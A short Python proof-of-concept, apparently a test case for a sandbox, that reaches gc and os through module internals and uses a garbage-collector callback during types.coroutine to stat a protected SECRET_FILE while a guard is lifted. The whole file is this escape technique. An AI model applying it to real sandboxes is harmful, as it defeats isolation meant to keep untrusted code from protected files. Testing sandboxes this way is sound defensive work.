# types.coroutine lifts the guard while it copies the code: a collection there calls the cell.
# breach: setting inode
# only: 3.11
import random, timeit, types
gc, os, seen = timeit.gc, random._os, []
def look(phase, info):
    try:
        seen.append(os.stat(SECRET_FILE).st_ino)
    except OSError:
        pass
gc.callbacks.append(look)
gc.set_threshold(1, 1, 1)
kept = []
for i in range(2000):
    def generator():
        yield
    kept.append([[] for _ in range(i % 3)])
    kept.append(types.coroutine(generator))
gc.callbacks.clear()
gc.set_threshold(700, 10, 10)
seen[0]
